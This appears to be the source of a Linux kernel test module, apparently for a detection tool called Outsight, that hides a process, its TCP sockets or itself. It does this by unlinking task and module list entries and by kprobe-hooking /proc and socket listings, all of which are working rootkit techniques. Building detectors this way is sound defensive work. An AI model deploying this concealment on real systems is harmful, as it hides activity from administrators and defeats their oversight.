// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * For tests: hides a process, sockets, or itself, like malware.
 *
 *   echo PID >/sys/module/hide/parameters/pid
 *   echo PORT >/sys/module/hide/parameters/port
 *   echo MODE >/sys/module/hide/parameters/mode
 *     list    the process is unlinked from the kernel's list of tasks
 *     proc    /proc does not list it
 *     socket  /proc/net/tcp and tcp6 do not list the sockets that have the port
 *     self    this module is unlinked from the kernel's list of modules
 *     off     everything is restored; rmmod restores it too
 */
#include <linux/init_task.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/seq_file.h>
#include <linux/stop_machine.h>
#include <net/sock.h>

static int hide_pid;
module_param_named(pid, hide_pid, int, 0644);
MODULE_PARM_DESC(pid, "which process");

static ushort hide_port;
module_param_named(port, hide_port, ushort, 0644);
MODULE_PARM_DESC(port, "which sockets: their own port");

static void (*hide_undo)(void);

/* --- list --------------------------------------------------------------------------------- */

static struct task_struct *hide_task;

/* No CPU is inside a list while all CPUs are stopped here. */
static int hide_unlink(void *unused)
{
	list_del_rcu(&hide_task->tasks);
	return 0;
}

static int hide_link(void *unused)
{
	/* One that has ended was taken off the list for good. */
	if (pid_alive(hide_task))
		list_add_tail_rcu(&hide_task->tasks, &init_task.tasks);
	return 0;
}

static void hide_list_undo(void)
{
	stop_machine(hide_link, NULL, NULL);
	put_task_struct(hide_task);
}

static int hide_list(void)
{
	struct pid *pid = find_get_pid(hide_pid);

	hide_task = get_pid_task(pid, PIDTYPE_TGID);
	put_pid(pid);
	if (!hide_task)
		return -ESRCH;
	stop_machine(hide_unlink, NULL, NULL);
	/* Readers that stood on it have gone on; its own end may now unlink it once more. */
	synchronize_rcu();
	INIT_LIST_HEAD(&hide_task->tasks);
	hide_undo = hide_list_undo;
	return 0;
}

/* --- proc --------------------------------------------------------------------------------- */

/* In place of proc_fill_cache(): "has been listed, go on"; and of tcp4_seq_show(): SEQ_SKIP. */
static noinline int hide_nothing(void)
{
	BUILD_BUG_ON(SEQ_SKIP != true);
	return SEQ_SKIP;
}

/* bool proc_fill_cache(file, context, name, length, …) */
static int hide_on_fill(struct kprobe *kp, struct pt_regs *regs)
{
	char text[12];
	unsigned int len = snprintf(text, sizeof(text), "%d", hide_pid);

	if (regs->cx != len || memcmp((const char *)regs->dx, text, len))
		return 0;
	regs->ip = (unsigned long)hide_nothing;
	return 1;
}

/* Without one a kprobe may not change where execution goes on. */
static void hide_behind_fill(struct kprobe *kp, struct pt_regs *regs, unsigned long flags)
{
}

static struct kprobe hide_kprobe;

static void hide_proc_undo(void)
{
	unregister_kprobe(&hide_kprobe);
}

static int hide_proc(void)
{
	int ret;

	hide_kprobe = (struct kprobe){
		.symbol_name = "proc_fill_cache",
		.pre_handler = hide_on_fill,
		.post_handler = hide_behind_fill,
	};
	ret = register_kprobe(&hide_kprobe);
	if (!ret)
		hide_undo = hide_proc_undo;
	return ret;
}

/* --- socket ------------------------------------------------------------------------------- */

/* int tcp4_seq_show(seq, v): v is the heading's mark or any kind of socket, which begins alike. */
static int hide_on_show(struct kprobe *kp, struct pt_regs *regs)
{
	const struct sock *sk = (const struct sock *)regs->si;

	if ((const void *)sk == SEQ_START_TOKEN || sk->sk_num != hide_port)
		return 0;
	regs->ip = (unsigned long)hide_nothing;
	return 1;
}

static struct kprobe hide_shows[2];

static void hide_socket_undo(void)
{
	size_t i;

	for (i = 0; i < ARRAY_SIZE(hide_shows); i++)
		unregister_kprobe(&hide_shows[i]);
}

static int hide_socket(void)
{
	static const char *const names[] = { "tcp4_seq_show", "tcp6_seq_show" };
	size_t i;
	int ret;

	for (i = 0; i < ARRAY_SIZE(hide_shows); i++) {
		hide_shows[i] = (struct kprobe){
			.symbol_name = names[i],
			.pre_handler = hide_on_show,
			.post_handler = hide_behind_fill,
		};
		ret = register_kprobe(&hide_shows[i]);
		if (ret) {
			while (i--)
				unregister_kprobe(&hide_shows[i]);
			return ret;
		}
	}
	hide_undo = hide_socket_undo;
	return 0;
}

/* --- self --------------------------------------------------------------------------------- */

static struct list_head *hide_before;

static int hide_unlink_self(void *unused)
{
	hide_before = THIS_MODULE->list.prev;
	list_del_rcu(&THIS_MODULE->list);
	return 0;
}

static int hide_link_self(void *unused)
{
	list_add_rcu(&THIS_MODULE->list, hide_before);
	return 0;
}

static void hide_self_undo(void)
{
	stop_machine(hide_link_self, NULL, NULL);
}

static int hide_self(void)
{
	stop_machine(hide_unlink_self, NULL, NULL);
	hide_undo = hide_self_undo;
	return 0;
}

/* --- life --------------------------------------------------------------------------------- */

static void hide_off(void)
{
	if (hide_undo)
		hide_undo();
	hide_undo = NULL;
}

static int hide_set(const char *mode, const struct kernel_param *kp)
{
	hide_off();
	if (sysfs_streq(mode, "off"))
		return 0;
	if (sysfs_streq(mode, "list"))
		return hide_list();
	if (sysfs_streq(mode, "proc"))
		return hide_proc();
	if (sysfs_streq(mode, "socket"))
		return hide_socket();
	if (sysfs_streq(mode, "self"))
		return hide_self();
	return -EINVAL;
}

static const struct kernel_param_ops hide_mode = { .set = hide_set };
module_param_cb(mode, &hide_mode, NULL, 0200);
MODULE_PARM_DESC(mode, "off, list, proc, socket or self");

static int __init hide_init(void)
{
	return 0;
}

module_init(hide_init);
module_exit(hide_off);
MODULE_DESCRIPTION("Hides a process, sockets or itself, for Outsight's tests");
MODULE_LICENSE("GPL");
